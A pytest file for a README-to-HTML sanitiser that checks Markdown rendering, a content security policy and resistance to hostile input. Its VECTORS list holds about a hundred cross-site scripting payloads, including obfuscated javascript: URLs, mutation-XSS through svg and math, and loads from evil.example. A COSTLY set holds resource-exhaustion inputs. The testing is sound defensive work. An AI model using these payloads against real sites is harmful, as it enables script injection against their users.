"""That any README becomes a page that is safe to open, shows what Markdown says, and costs a bounded time to make."""

import re
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from stac_ext.cards.markdown import Budget
from stac_ext.cards.overview import MAX_SOURCE, content_policy, overview_asset, refused_problems, render_overview
from stac_ext.cards.references import CardPlace
from stac_ext.cards.safe_html import ATTRIBUTES, RELATION, TAGS
from stac_ext.model import ProjectFacts, RepositoryFile, Visibility
from stac_ext.times import parse_rfc3339
from stac_ext.urls import BuildContext
from tests.stac_ext.cards.pages import FILES, PAGE, PLACE, Page, page_of, taken_apart

HEAD = ["html", "head", "meta", "meta", "meta", "meta", "title", "style", "body", "main"]
CONTEXT = BuildContext("https://hub.example/stac", "https://hub.example/assets", "gl.example", "https://gl.example")
FACTS = ProjectFacts(
    id=42,
    path="g/p",
    name="P",
    description="",
    web_url=PAGE,
    visibility="public",
    effective_visibility=Visibility.PUBLIC,
    topics=(),
    created_at=parse_rfc3339("2024-01-01T00:00:00Z"),
    default_branch="main",
    head_sha="abc",
    files=(RepositoryFile("README.md", "b1"), RepositoryFile("a.png", "b2")),
    readme_path="README.md",
    readme=b"# P",
)


def check_is_safe(page: Page) -> None:
    """Only listed elements and attributes, only resolved references, nothing that loads from other hosts."""
    assert [tag for tag, _ in page.head] == HEAD
    assert page.odd == []
    for tag, attributes in page.content:
        if (tag, attributes) in (("pre", {"class": "text"}), ("p", {"class": "note"})):
            continue  # the page's own
        assert tag in TAGS
        assert attributes.keys() <= ATTRIBUTES[tag] | ({"rel"} if tag == "a" else set()), (tag, attributes)
        if tag == "a":
            assert attributes.get("rel") == RELATION
            assert re.match(r"https?://|mailto:|#readme-", attributes.get("href") or "#readme-", re.IGNORECASE)
        if tag == "img":
            assert (attributes["src"] or "").startswith(FILES)
        if "id" in attributes:
            assert (attributes["id"] or "").startswith("readme-")


# What Markdown says


@pytest.mark.parametrize(
    ("markdown", "wanted"),
    [
        ("# A *b*", '<h1 id="readme-a-b">A <em>b</em></h1>'),
        ("## A\n## A", '<h2 id="readme-a">A</h2>\n<h2 id="readme-a-1">A</h2>'),
        ("# Über uns: 日本", '<h1 id="readme-über-uns-日本">'),
        ("a **b** `c<d` ~~e~~", "a <strong>b</strong> <code>c&lt;d</code> <s>e</s>"),
        ("- [ ] a\n- [x] b", "<li>☐ a</li>\n<li>☑ b</li>"),
        ("3. a\n4. b", '<ol start="3">'),
        ("|a|b|\n|-|-:|\n|1|2|", '<td align="right">2</td>'),
        ("a[^1]\n\n[^1]: note", 'id="readme-fn1"'),
        ("a  \nb", "a<br>\nb"),
        ("> a", "<blockquote>\n<p>a</p>"),
        ("```mermaid\ngraph TD; A-->B\n```", "<pre><code>graph TD; A--&gt;B\n</code></pre>"),
        ("```math\nx<y\n```", "<code>x&lt;y\n</code>"),
        ("$`x<y`$ and $$a<b$$", "$<code>x&lt;y</code>$ and $$a&lt;b$$"),
        ("<details open><summary>S</summary>\n\n**b**\n\n</details>", '<details open=""><summary>S</summary>'),
        ('<p align="center"><img src="docs/fig.png" width="50%"></p>', 'align="center"><img src="https://hub.example/'),
        ("<center>x</center>", "<center>x</center>"),
        ("<table><tr><td colspan=2>x</table>", '<td colspan="2">x</td>'),
        ("<kbd>Ctrl</kbd> H<sub>2</sub>O", "<kbd>Ctrl</kbd> H<sub>2</sub>O"),
        ("<!-- hidden -->shown", "shown"),
        ("a <!-- hidden --> b", "a  b"),
        ("&copy; &amp;lt; &lt;b&gt;", "© &amp;lt; &lt;b&gt;"),
        ("see https://a.example/b_c_d, or (https://a.example/x).", '<a href="https://a.example/b_c_d"'),
        ("https://a.example/x_(y)", '<a href="https://a.example/x_(y)"'),
        ("`https://a.example`", "<code>https://a.example</code>"),
        ("[https://a.example](docs/guide.md)", f'<a href="{FILES}docs/guide.md"'),
        ("<a href='docs/guide.md'>x https://a.example y</a>", "x https://a.example y</a>"),
        ('<a name="Old_Way"></a>\n[to](#Old_Way)', 'href="#readme-Old_Way"'),
        ("# Some  heading -- here\n[to](#some-heading----here)", 'href="#readme-some-heading-here"'),
        ("![a](docs/fig.png 'T')", f'<img src="{FILES}docs/fig.png" alt="a" title="T" loading="lazy">'),
        ("text\n<div dir=rtl lang=ar>x</div>", '<div dir="rtl" lang="ar">x</div>'),
    ],
)
def test_markdown_is_shown(markdown: str, wanted: str) -> None:
    overview = render_overview(markdown.encode(), PLACE, "T")
    assert overview.rendered
    assert wanted in overview.html
    assert "hidden" not in overview.html
    check_is_safe(taken_apart(overview))


@pytest.mark.parametrize("comment", ["<!-->", "<!--->", "<!---->", "<!-- hidden -->", "<!-- hidden -> -- -->"])
@pytest.mark.parametrize("around", ["{}\n\nseen", "<div>{}seen</div>", "text {} seen"])
def test_a_comment_ends_where_browsers_end_it(comment: str, around: str) -> None:
    """`<!-->` took the rest of the page with it."""
    overview = render_overview(around.format(comment).encode(), PLACE, "T")
    assert "seen" in overview.html
    assert "hidden" not in overview.html
    check_is_safe(taken_apart(overview))


def test_the_page_shows_the_text_behind_the_front_matter_under_its_title() -> None:
    overview = render_overview(b"---\ntitle: secret\n---\n# Body", PLACE, "T <b> & \n more")
    assert "<title>T &lt;b&gt; &amp; more</title>" in overview.html
    assert taken_apart(overview).text == "Body"
    assert overview.html.startswith("<!DOCTYPE html>\n<html>")


def test_pictures_of_other_hosts_are_links() -> None:
    page = page_of(
        "![badge](https://img.example/a.svg) ![](https://img.example/b.svg) "
        "[![ci](https://img.example/c.svg)](https://ci.example) <img src='//img.example/d.png' alt='d'>"
    )
    assert page.elements("img") == []
    assert [one["href"] for one in page.elements("a")] == [
        *("https://img.example/a.svg", "https://img.example/b.svg", "https://ci.example", "https://img.example/d.png")
    ]
    assert page.text == "badge img.example ci d"


def test_raw_html_is_resolved_as_markdown_is() -> None:
    raw = page_of('<a href="docs/guide.md">a</a> <img src="img/logo.png" alt="l"> <a href="../x">b</a>')
    written = page_of("[a](docs/guide.md) ![l](img/logo.png) [b](../x)")
    assert raw.elements("a") == written.elements("a")
    assert raw.elements("img") == written.elements("img")


def test_references_that_lead_nowhere_are_told_and_their_text_stays() -> None:
    overview = render_overview(b"[a](../x) ![b](missing.png)", PLACE, "T")
    assert [href for href, _ in overview.refused] == ["../x", "missing.png"]
    assert taken_apart(overview).text == "a b"


def test_references_that_lead_nowhere_are_problems_with_lines() -> None:
    readme = b"---\ntitle: T\n---\n\n[a](docs/guide.md)\n[b](../x)\n\n<img src='missing.png'>"
    problems = refused_problems(render_overview(readme, PLACE, "T"), readme, PLACE)
    assert [(one.rule, one.path, one.line) for one in problems] == [
        ("readme-link", "README.md", 6),
        ("readme-link", "README.md", 8),
    ]


@pytest.mark.parametrize("path", ["README.rst", "README.txt", "README", "readme.adoc", "README.html"])
def test_other_formats_are_shown_as_they_are(path: str) -> None:
    overview = render_overview(b"# <script>a</script>\n\n`b`", replace(PLACE, readme_path=path), "T")
    page = taken_apart(overview)
    check_is_safe(page)
    assert (overview.rendered, page.text) == (False, "# <script>a</script>\n\n`b`")


@pytest.mark.parametrize("path", ["README.md", "readme.MD", "README.markdown"])
def test_markdown_is_known_by_its_name(path: str) -> None:
    assert render_overview(b"# a", replace(PLACE, readme_path=path), "T").rendered


# What is hostile

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=docs/fig.png onload=alert(1)>",
    '<img src="docs/fig.png"onerror="alert(1)">',
    "<img/src=docs/fig.png/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<img srcset='//evil.example/x 1x' src=docs/fig.png>",
    "<img src=docs/fig.png style='background:url(//evil.example)'>",
    '<img alt="><script>alert(1)</script>" src=docs/fig.png>',
    "<img title='\"><svg onload=alert(1)>' src=docs/fig.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math href='javascript:alert(1)'>x</math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<div style='width:expression(alert(1))' onclick=alert(1)>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<select><option><script>alert(1)</script></select>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example@hub.example'>x</a>",
    "<a href=https://ok.example target=_blank ping=//evil.example onclick=alert(1)>x</a>",
    "<a href='x' href='javascript:alert(1)'>x</a>",
    "<a\x00href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x](docs/guide.md "onmouseover=alert(1)")',
    "[x](docs/guide.md '\"><script>alert(1)</script>')",
    '[x"onmouseover=alert(1)](https://a.example/"onmouseover=alert(1))',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '!["onerror=alert(1)](docs/fig.png)',
    '![x](docs/fig.png"onerror="alert(1))',
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover=alert(1)>',
    'https://a.example/"onmouseover=alert(1)//',
    "https://a.example/<script>alert(1)</script>",
    "# <script>alert(1)</script>",
    '# a" onmouseover="alert(1)',
    '```"><script>alert(1)</script>\nx\n```',
    "``` js onload=alert(1)\nx\n```",
    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
    "[^<script>]\n\n[^<script>]: x",
    "<!--><script>alert(1)</script>-->",
    "<!--- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml ?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y 'z'>]>",
    "</main></body><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</pre></code><script>alert(1)</script>",
    "<p id='x' class='y' name='z'>x</p><p id='\" onclick=\"alert(1)'>x</p>",
    "<a id=cookie name=body href='#'>x</a><img name=getElementById src=docs/fig.png>",
    "<table background=//evil.example><td background=//evil.example>x",
    "<blockquote cite=javascript:alert(1)>x</blockquote><q cite=javascript:alert(1)>y</q>",
    "<del cite=javascript:alert(1)>x</del>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<b/onclick=alert(1)>x</b>",
    "<x onclick=alert(1)>y</x>",
    '<p title="</p><script>alert(1)</script>">x</p>',
    "<p title='--><script>alert(1)</script>'>x</p>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
]


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize(
    "around", ["{}", "text {} text", "<div>\n{}\n</div>", "- {}", "> {}", "<b>{}", "<svg>{}", "<p title='{}'>"]
)
def test_nothing_hostile_passes(vector: str, around: str) -> None:
    overview = render_overview(around.format(vector).encode(), PLACE, vector)
    assert overview.rendered
    check_is_safe(taken_apart(overview))
    plain = render_overview(around.format(vector).encode(), replace(PLACE, readme_path="README"), vector)
    check_is_safe(taken_apart(plain))


MARKS = """
< > </ <a <p> </p> <table> <td> </div> <div <li> <ol> " ' = [ ]( ) ![ ` ``` * _ | - # & &# ; \\ <!-- --> [^1] : href=
src= javascript: https://a.example/ docs/fig.png
"""
pieces = st.sampled_from([*VECTORS, *MARKS.split(), " ", "    ", "\n", "\n\n", "\t", "\r", "\0", "---\n"])
readmes = st.one_of(
    st.lists(pieces, max_size=30).map(lambda parts: "".join(parts).encode()),
    st.lists(pieces | st.text(max_size=10), max_size=20).map(lambda parts: "".join(parts).encode("utf-8", "replace")),
    st.binary(max_size=300),
)


@settings(max_examples=600, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
@given(readme=readmes, title=st.text(max_size=30), name=st.sampled_from(["README.md", "a/README.md", "README"]))
def test_any_bytes_give_a_safe_page(readme: bytes, title: str, name: str) -> None:
    overview = render_overview(readme, replace(PLACE, readme_path=name), title)
    check_is_safe(taken_apart(overview))
    overview.html.encode()


# What costs


def many(piece: str, size: int = 1_000_000) -> str:
    return piece * (size // len(piece))


COSTLY = {
    "brackets": many("["),
    "pictures": many("!["),
    "quotes": many(">"),
    "nested quotes": "\n".join(">" * depth + " a" for depth in range(1_400)),
    "backticks": "".join("`" * length + " " for length in range(1, 1_400)),
    "emphasis": many("*a_b "),
    "strike": many("~~a"),
    "links": many("[a]("),
    "lists": "\n".join(" " * depth + "- a" for depth in range(1_400)),
    "tables": "|a" * 200 + "\n" + "|-" * 200 + "\n" + many("|x\n", 500_000),
    "one reference many times": "[a]: https://x.example/" + "z" * 1_900 + "\n\n" + many("[a]"),
    "one picture many times": "[a]: docs/fig.png\n\n" + many("![][a]"),
    "definitions": "".join(f"[x{number}]: b\n" for number in range(80_000)),
    "footnotes": many("^[a]"),
    "footnote chain": "".join(f"[^{number}]: [^{number + 1}]\n\n" for number in range(40_000)),
    "headings": many("# a\n"),
    "addresses": many("http://a."),
    "entities": many("&"),
    "angle brackets": many("<"),
    "open elements": "<div>\n" + many("<div>"),
    "open tags": "<div>\n" + many('<a "'),
    "comments": many("x <!---->"),
    "declarations": many("<?"),
    # 33 kB of this become 38 MB where a sanitiser repairs them as browsers do
    "formatting that is never closed": "".join(f"<b title={number}><p>" for number in range(50_000)),
    "formatting reopened": "<p>" + "".join(f"<b title={n}>" for n in range(59)) + many("<div>x</div>"),
    "tables in formatting": "".join(f"<b id={n}>" for n in range(50)) + many("<table>x<tr>y<td>z</table>"),
    "scripts": "<div>\n" + many("<script>"),
    "nulls": many("\0"),
    "blank lines": many("\n"),
    "blanks": many(" ") + "x",
}


@pytest.mark.parametrize("text", COSTLY.values(), ids=COSTLY.keys())
def test_a_megabyte_made_to_be_costly_ends_and_stays_small(text: str) -> None:
    overview = render_overview(text.encode(), PLACE, "T", budget=Budget(1.0))
    assert len(overview.html) < 20_000_000
    assert overview.html.endswith("</html>\n")


def test_a_readme_of_a_megabyte_is_rendered() -> None:
    part = "## Part\n\nSome *text* with [a link](docs/guide.md), `code` and ![a](docs/fig.png).\n\n- one\n- two\n\n"
    overview = render_overview(many(part).encode(), PLACE, "T", budget=Budget(60))
    assert overview.rendered
    assert overview.html.count("<h2 ") == 1_000_000 // len(part)


def test_what_is_too_costly_is_shown_as_it_is_and_said() -> None:
    overview = render_overview(b"# a <script>", PLACE, "T", budget=Budget(0, iter(range(10_000)).__next__))
    page = taken_apart(overview)
    assert not overview.rendered
    assert "# a <script>" in page.text
    assert "shown as the text that it is" in page.text
    check_is_safe(page)


def test_a_long_readme_is_cut_and_said() -> None:
    overview = render_overview(b"a " * MAX_SOURCE, replace(PLACE, readme_path="README"), "T")
    assert "Only the beginning" in taken_apart(overview).text
    assert len(overview.html) < MAX_SOURCE + 5_000
    assert "Only the beginning" in render_overview(b"a", PLACE, "T", truncated=True).html
    assert "Only the beginning" not in render_overview(b"a", PLACE, "T").html


# The page and its asset


def test_the_policy_allows_nothing_but_the_style_and_the_pictures_of_the_hub() -> None:
    policy = content_policy(PLACE)
    assert "default-src 'none'" in policy
    assert "img-src https://hub.example;" in policy
    assert "unsafe" not in policy
    assert "script-src" not in policy
    relative = replace(PLACE, files_url="/assets/42/abc/")
    assert "img-src 'self';" in content_policy(relative)
    assert f'content="{policy}"'.replace("'", "&#x27;") in render_overview(b"", PLACE, "T").html


def test_the_place_of_a_projects_readme() -> None:
    place = CardPlace.of(FACTS, CONTEXT)
    assert place == CardPlace(FILES, "README.md", "abc", PAGE, "main", frozenset({"README.md", "a.png"}))
    assert CardPlace.of(replace(FACTS, files_truncated=True), CONTEXT).files is None


def test_a_project_with_a_readme_has_the_asset() -> None:
    assert overview_asset(FACTS, CONTEXT) == {
        "href": f"{FILES}README.html",
        "type": "text/html",
        "title": "README as a page",
        "roles": ["overview"],
    }
    assert overview_asset(replace(FACTS, readme_path=None, readme=None), CONTEXT) is None
    assert overview_asset(replace(FACTS, head_sha=None), CONTEXT) is None


def test_a_file_that_is_called_like_the_page_keeps_its_address() -> None:
    asset = overview_asset(replace(FACTS, files=(*FACTS.files, RepositoryFile("README.html", "b3"))), CONTEXT)
    assert asset is not None
    assert asset["href"] == f"{FILES}README.html?view=overview"


def test_a_browser_runs_nothing_and_applies_the_style(tmp_path: Path) -> None:
    chromium = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if chromium is None:
        pytest.skip("needs Chromium, which is not installed")
    vectors = "\n\n".join(vector.replace("alert(1)", "document.title='run'") for vector in VECTORS)
    page = tmp_path / "page.html"
    page.write_text(render_overview(f"# Card\n\n{vectors}".encode(), PLACE, "Title").html, "utf-8")
    options = ["--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={tmp_path}/profile"]
    dumped = subprocess.run(
        [chromium, *options, "--virtual-time-budget=2000", "--dump-dom", page.as_uri()],
        capture_output=True,
        text=True,
        timeout=90,
        check=True,
    )
    assert "<title>Title</title>" in dumped.stdout
    assert '<h1 id="readme-card">' in dumped.stdout
    assert "<script" not in dumped.stdout
